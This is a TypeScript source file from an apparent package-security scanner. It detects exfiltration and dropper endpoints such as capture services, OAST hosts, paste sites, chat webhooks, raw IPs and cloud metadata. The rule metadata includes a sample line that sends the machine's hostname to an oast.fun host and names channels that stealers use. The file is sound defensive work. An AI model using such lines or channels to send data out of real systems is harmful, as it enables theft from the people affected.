import { loadJsonData } from '../../core/data.js';
import type { ExecutionContext, Finding, RuleMeta } from '../../core/types.js';
import { makeFinding } from '../../rules/finding.js';

export type EndpointKind =
  | 'request-capture'
  | 'ip-logger'
  | 'tunnel'
  | 'oast'
  | 'paste'
  | 'file-drop'
  | 'messaging-bot'
  | 'discord-webhook'
  | 'slack-webhook'
  | 'geo-ip'
  | 'mining-pool'
  | 'raw-ip'
  | 'cloud-metadata';

export interface EndpointMatch {
  /** The URL or host as found in the text. */
  indicator: string;
  host: string;
  kind: EndpointKind;
}

interface HostEntry {
  host: string;
  kind: EndpointKind;
  path?: string;
}

const endpoints = loadJsonData<{ hosts: HostEntry[]; metadataEndpoints: string[] }>('endpoints.json');
const HOSTS = endpoints.hosts;
const METADATA = new Set(endpoints.metadataEndpoints);

/**
 * A cryptocurrency wallet address: Ethereum-style hex, legacy base58 and bech32 Bitcoin, Monero,
 * TRON. Unanchored: callers bound it (the index classifies whole IOC strings, JS-020 finds
 * addresses inside strings).
 */
export const WALLET_ADDRESS_PATTERN =
  '(?:0x[a-fA-F0-9]{40}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[a-z0-9]{25,62}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}|T[1-9A-HJ-NP-Za-km-z]{33})';

const URL_RE = /\b(?:https?|wss?|ftp|tcp):\/\/[^\s"'`<>\\)]+/gi;
const HOST_RE = /\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}\b/gi;
const IPV4 = /^(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}$/;

/** Each listed host to its first entry, with the entry's position in the list. */
const HOST_INDEX = new Map<string, { entry: HostEntry; index: number }>();
HOSTS.forEach((entry, index) => {
  if (!HOST_INDEX.has(entry.host)) HOST_INDEX.set(entry.host, { entry, index });
});

/** The first listed entry (list order) whose host is `host` or a parent domain of it. */
function hostEntry(host: string): HostEntry | undefined {
  const h = host.toLowerCase();
  let best: { entry: HostEntry; index: number } | undefined;
  // `a.b.webhook.site`, `b.webhook.site`, `webhook.site`, `site`: one lookup per label.
  for (let at = 0; at !== -1; at = h.indexOf('.', at) + 1 || -1) {
    const hit = HOST_INDEX.get(at === 0 ? h : h.slice(at));
    if (hit && (!best || hit.index < best.index)) best = hit;
  }
  return best?.entry;
}

/** True for addresses that are never a remote server: loopback, private, link-local (except metadata), docs ranges. */
function isLocalIp(ip: string): boolean {
  const [a, b] = ip.split('.').map(Number) as [number, number];
  return a === 127 || a === 10 || a === 0 || (a === 192 && b === 168) || (a === 172 && b >= 16 && b <= 31);
}

/**
 * Finds exfiltration/dropper endpoints in a string: known capture/OAST/paste/webhook hosts,
 * raw public IP URLs and cloud metadata addresses.
 */
export function matchEndpoints(text: string): EndpointMatch[] {
  // Cheap rejection first: most strings in code have no dot and no scheme.
  const hasDot = text.includes('.');
  if (!hasDot && !text.includes(':')) return [];
  const out: EndpointMatch[] = [];
  const seen = new Set<string>();
  const push = (m: EndpointMatch) => {
    const key = `${m.kind}|${m.indicator}`;
    if (!seen.has(key)) {
      seen.add(key);
      out.push(m);
    }
  };
  for (const raw of text.includes('://') ? (text.match(URL_RE) ?? []) : []) {
    let url: URL;
    try {
      url = new URL(raw);
    } catch {
      continue;
    }
    const host = url.hostname.replace(/^\[|\]$/g, '');
    if (METADATA.has(host)) {
      push({ indicator: raw, host, kind: 'cloud-metadata' });
      continue;
    }
    if (IPV4.test(host)) {
      if (!isLocalIp(host)) push({ indicator: raw, host, kind: 'raw-ip' });
      continue;
    }
    const entry = hostEntry(host);
    if (entry && (!entry.path || url.pathname.startsWith(entry.path)))
      push({ indicator: raw, host, kind: entry.kind });
  }
  // Bare hosts without a scheme (`webhook.site`, DNS exfil to `x.oast.fun`).
  if (hasDot && (text.length < 100_000 || out.length === 0)) {
    for (const host of text.match(HOST_RE) ?? []) {
      const entry = hostEntry(host);
      if (entry && !entry.path && !out.some((m) => m.host.toLowerCase() === host.toLowerCase())) {
        push({ indicator: host, host, kind: entry.kind });
      }
    }
  }
  for (const ip of METADATA) {
    if (text.includes(ip) && !out.some((m) => m.kind === 'cloud-metadata'))
      push({ indicator: ip, host: ip, kind: 'cloud-metadata' });
  }
  return out;
}

export const ENDPOINT_DESCRIPTIONS: Record<EndpointKind, string> = {
  'request-capture': 'a request-capture service (used to receive stolen data)',
  'ip-logger': 'an IP-logger link (records who requested it: contacting it is the victim beacon)',
  tunnel: 'a tunnelling service that hides the real server',
  oast: 'an out-of-band interaction (OAST) server used by dependency-confusion and recon payloads',
  paste: 'a paste site (used to host second stages or receive data)',
  'file-drop': 'an anonymous file-drop site',
  'messaging-bot': 'the Telegram bot API (a common exfiltration channel)',
  'discord-webhook': 'a Discord webhook (a common exfiltration channel)',
  'slack-webhook': 'a Slack incoming webhook',
  'geo-ip': 'an IP geolocation/lookup service (used to fingerprint victims)',
  'mining-pool': 'a cryptocurrency mining pool',
  'raw-ip': 'a raw IP address instead of a domain',
  'cloud-metadata': 'the cloud instance metadata service (credential theft)',
};

export const SUSPICIOUS_ENDPOINT: RuleMeta = {
  id: 'NET-001',
  name: 'suspicious-endpoint',
  analyzer: 'text',
  ecosystems: ['npm', 'pypi', 'maven'],
  category: 'exfiltration',
  severity: 'high',
  confidence: 'medium',
  description:
    'Code or a script refers to an exfiltration-grade endpoint: request capture, IP loggers (grabify, iplogger), OAST, paste/file-drop, chat webhooks, raw IPs, mining pools or cloud metadata.',
  rationale:
    'Stealers and recon payloads send data to services that need no account and keep no trace (webhook.site, *.oast.fun, Discord/Telegram webhooks); droppers fetch second stages from paste sites and raw IPs.',
  falsePositives:
    'Tools that integrate with Discord/Telegram/Slack by design, IP-lookup libraries, security tooling and test fixtures. The list is data (data/endpoints.json).',
  example: "https.get('https://abc.oast.fun/?h=' + os.hostname())",
  references: [
    'https://github.com/projectdiscovery/interactsh',
    'https://socket.dev/blog/discord-webhooks-used-in-npm-packages',
  ],
};

const KIND_SEVERITY: Partial<Record<EndpointKind, Finding['severity']>> = {
  // Cloud SDKs and their credential providers (gcp-metadata, @aws-sdk/credential-provider-imds,
  // botocore) name the metadata service by design: naming it is a capability, and stealing
  // from it is the flow of its response to another host (JS-010/PY flows), or install-time use.
  'cloud-metadata': 'medium',
  'geo-ip': 'medium',
  'raw-ip': 'medium',
  'slack-webhook': 'medium',
  tunnel: 'medium',
};

/** The finding for one endpoint match, with its indicator as IOC. */
export function endpointFinding(
  m: EndpointMatch,
  where: { file: string; line?: number; column?: number; snippet?: string; context: ExecutionContext },
): Finding {
  const category =
    m.kind === 'mining-pool'
      ? 'miner'
      : m.kind === 'cloud-metadata'
        ? 'credential-theft'
        : m.kind === 'geo-ip'
          ? 'recon'
          : undefined;
  const f = makeFinding(SUSPICIOUS_ENDPOINT, {
    ...where,
    message: `Refers to ${ENDPOINT_DESCRIPTIONS[m.kind]}: ${m.indicator.slice(0, 120)}`,
    severity: KIND_SEVERITY[m.kind],
    evidence: { endpointKind: m.kind, host: m.host },
    iocs: [m.indicator],
  });
  if (category) f.category = category;
  return f;
}

/** Text-level IOC scan for files no parser could read, shell scripts and other text. */
export function scanTextForIocs(file: string, text: string, context: ExecutionContext): Finding[] {
  const out: Finding[] = [];
  for (const m of matchEndpoints(text)) {
    const idx = text.indexOf(m.indicator);
    const line = idx >= 0 ? text.slice(0, idx).split('\n').length : undefined;
    const lineText = line ? text.split('\n')[line - 1] : undefined;
    out.push(endpointFinding(m, { file, line, snippet: lineText, context }));
  }
  return out;
}
